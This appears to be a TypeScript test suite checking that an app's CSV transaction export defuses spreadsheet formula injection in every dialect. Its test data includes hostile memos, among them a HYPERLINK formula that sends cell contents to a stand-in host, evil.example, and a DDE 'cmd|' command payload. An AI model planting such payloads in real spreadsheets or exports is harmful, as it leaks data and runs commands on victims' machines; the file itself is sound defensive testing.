/**
 * Issue 11 class 10 (spreadsheet formulas): the history CSV is safe in every common spreadsheet
 * dialect. A reader may split on commas, semicolons or tabs, honour quotes or not, and trim spaces;
 * whichever it does, no cell it gets from text a user typed starts with a formula character.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvLine, csvText, csvValue } from '../../src/http/pages/csv.js';
import { auth, createHarness, dialects, type Harness } from '../helpers/harness.js';
import { signedIn } from './browser.js';

const SEPARATORS = [',', ';', '\t'] as const;

/**
 * Cells as a spreadsheet in some dialect reads them: split on `separator` and on any line break;
 * `quotes` honours a double quote that opens a cell (with "" for a quote), leniently, as Excel and
 * LibreOffice do; without it the quotes stay in the text.
 */
function readCells(csv: string, separator: string, quotes: boolean): string[] {
  if (!quotes) return csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
  const cells: string[] = [];
  let i = 0;
  while (i < csv.length) {
    let cell = '';
    if (csv[i] === '"') {
      i++;
      while (i < csv.length) {
        if (csv[i] === '"' && csv[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (csv[i] === '"') {
          i++;
          break;
        } else cell += csv[i++];
      }
    }
    while (i < csv.length && csv[i] !== separator && csv[i] !== '\r' && csv[i] !== '\n') cell += csv[i++];
    cells.push(cell);
    if (csv[i] === '\r' && csv[i + 1] === '\n') i++;
    i++;
  }
  return cells;
}

/**
 * A cell a spreadsheet would evaluate: after the spaces, quotes and line feeds a reader may drop, a
 * formula character (OWASP: = + - @ tab CR; ASVS: NUL) that does not begin a plain number.
 */
function isFormula(cell: string): boolean {
  const start = cell.replace(/^[\p{Zs}"\n]+/u, '');
  return /^[=+\-@\t\r\0]/.test(start) && !/^-?\d+(\.\d+)?"?$/.test(start);
}

function formulaCells(csv: string): string[] {
  const found: string[] = [];
  for (const separator of SEPARATORS) {
    for (const quotes of [true, false]) {
      for (const cell of readCells(csv, separator, quotes))
        if (isFormula(cell)) found.push(`${JSON.stringify(separator)} quotes=${quotes}: ${JSON.stringify(cell)}`);
    }
  }
  return found;
}

/** A small deterministic PRNG (mulberry32), so a failing case can be reproduced. */
function prng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

describe('CSV text cells', () => {
  it('defuses the issue example: a memo rent;=1+2 is no formula when split on semicolons', () => {
    const line = csvLine([csvValue('2026-01-15T12:00:00.000Z'), csvText('rent;=1+2')]);
    assert.equal(line, `2026-01-15T12:00:00.000Z,"rent;'=1+2"\r\n`);
    assert.deepEqual(readCells(line, ';', false).slice(0, 2), ['2026-01-15T12:00:00.000Z,"rent', `'=1+2"`]);
    assert.deepEqual(formulaCells(line), []);
  });

  it('prefixes a single quote to text starting with each formula character, and quotes every text cell', () => {
    const cases: [string, string][] = [
      ['=1+2', `"'=1+2"`],
      ['+1+2', `"'+1+2"`],
      ['-1+2', `"'-1+2"`],
      ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
      ['\t=1', `"'\t'=1"`],
      ['\r=1', `"'\r'=1"`],
      ['\n+1', `"\n'+1"`],
      ['\0x', `"'\0x"`],
      ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
      ['  =1', `"  '=1"`],
      ['\u3000=1', `"\u3000'=1"`],
      ['lunch', '"lunch"'],
      ['', '""'],
    ];
    for (const [value, cell] of cases) assert.equal(csvText(value), cell, JSON.stringify(value));
  });

  it('defuses a formula character wherever another dialect could start a cell: after , ; tab, a line break or a quote', () => {
    const cases: [string, string][] = [
      ['rent;=1+2', `"rent;'=1+2"`],
      ['a,=1', `"a,'=1"`],
      ['a,+1', `"a,'+1"`],
      ['a;-1', `"a;'-1"`],
      ['a;@x', `"a;'@x"`],
      ['a\t=1', `"a\t'=1"`],
      ['a\r\n=1', `"a\r\n'=1"`],
      ['a; =1', `"a; '=1"`],
      ['a;\u00a0=1', `"a;\u00a0'=1"`],
      ['say "=1"', `"say ""'=1"""`],
      ['a;" =1', `"a;"" '=1"`],
      ['=1;=2,+3', `"'=1;'=2,'+3"`],
    ];
    for (const [value, cell] of cases) assert.equal(csvText(value), cell, JSON.stringify(value));
  });

  it('keeps harmless text exactly: a minus inside words, look-alikes such as the full-width ＝, quotes and Unicode', () => {
    const cases: [string, string][] = [
      ['rent - utilities', '"rent - utilities"'],
      ['e-mail+fax@home', '"e-mail+fax@home"'],
      ['＝1+2', '"＝1+2"'],
      ['a;＝1', '"a;＝1"'],
      ['say "hi"', '"say ""hi"""'],
      ['naïve €5 ✓ 日本 🎉', '"naïve €5 ✓ 日本 🎉"'],
    ];
    for (const [value, cell] of cases) assert.equal(csvText(value), cell, JSON.stringify(value));
  });

  it('never yields a formula cell in any dialect, and gives back the text with only apostrophes added (2,000 generated texts)', () => {
    const random = prng(11);
    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', ' ', '\u00a0', 'a', '1', '(', ')', '＝'];
    for (let n = 0; n < 2000; n++) {
      let value = '';
      for (let len = 1 + Math.floor(random() * 8); len > 0; len--) value += alphabet[Math.floor(random() * alphabet.length)];
      const csv = csvLine([csvValue('1'), csvText(value), csvValue('x')]);
      assert.deepEqual(formulaCells(csv), [], JSON.stringify(value));
      const back = readCells(csv, ',', true);
      assert.equal(back.length, 3, JSON.stringify(value));
      assert.equal(back[1]!.replace(/'/g, ''), value, JSON.stringify(value));
    }
  });

  it('refuses to write a value of ours that is not inert (text must go through csvText)', () => {
    for (const ok of ['-0.40', '12340', '2026-01-15T12:00:00.000Z', '0190b3a2-7c1d-7000-8000-000000000000', 'USD', 'deposit', ''])
      assert.equal(csvValue(ok), ok);
    for (const bad of ['=1', '-1+2', '+1', '@x', 'a,b', 'a;b', 'a\tb', ' 1', '"x"', '-', 'a b'])
      assert.throws(() => csvValue(bad), /not an inert CSV value/, JSON.stringify(bad));
  });
});

const HOSTILE_MEMOS = [
  'rent;=1+2',
  '=1+2',
  '+1+2',
  '-1+2',
  '@SUM(1+2)',
  'a,=1',
  'a;+1',
  'a; -1',
  'a;\u3000@x',
  'say "=1"',
  `"=cmd|' /C calc'!A0"`,
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '＝1+2',
  'rent - utilities',
];

for (const dialect of await dialects()) {
  describe(`CSV export in every spreadsheet dialect (${dialect})`, () => {
    let h: Harness;
    before(async () => {
      h = await createHarness(dialect);
    });
    after(async () => h.close());

    it('exports hostile memos and a payee named like a formula with no formula cell in any dialect, the text otherwise exact', async () => {
      const { browser, user } = await signedIn(h, 'exporter');
      const payee = await h.user('-minus');
      await h.deposit(user, 10_000);
      for (const memo of HOSTILE_MEMOS) {
        const res = await h.inject({ method: 'POST', url: '/api/v1/deposits', headers: auth(user), payload: { account_id: user.accountId, amount: 1, memo } });
        assert.equal(res.statusCode, 201, `${memo}: ${res.body}`);
      }
      const sent = await h.inject({
        method: 'POST',
        url: '/api/v1/transfers',
        headers: auth(user),
        payload: { from_account_id: user.accountId, to: payee.accountNumber, amount: 40, memo: 'a;=1' },
      });
      assert.equal(sent.statusCode, 201, sent.body);

      const csv = (await browser.get('/transactions.csv')).body;
      assert.deepEqual(formulaCells(csv), []);
      const rows = readRows(csv);
      assert.equal(rows.length, 1 + HOSTILE_MEMOS.length + 2, 'header, the memos, the first deposit and the transfer');
      const [transfer, ...deposits] = rows.slice(1);
      assert.deepEqual(transfer!.slice(2, 10), ['transfer', 'debit', '-0.40', '99.74', 'USD', "'-minus", payee.accountNumber, "a;'=1"]);
      const memos = deposits
        .map((r) => r[9])
        .reverse()
        .slice(1);
      assert.deepEqual(memos, [
        "rent;'=1+2",
        "'=1+2",
        "'+1+2",
        "'-1+2",
        "'@SUM(1+2)",
        "a,'=1",
        "a;'+1",
        "a; '-1",
        "a;\u3000'@x",
        `say "'=1"`,
        `"'=cmd|' /C calc'!A0"`,
        `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
        '＝1+2',
        'rent - utilities',
      ]);
    });
  });
}

/** Rows as an RFC 4180 reader splitting on commas gets them. */
function readRows(csv: string): string[][] {
  const rows: string[][] = [];
  for (const line of csv.split('\r\n').filter((l) => l !== '')) rows.push(readCells(line, ',', true));
  return rows;
}
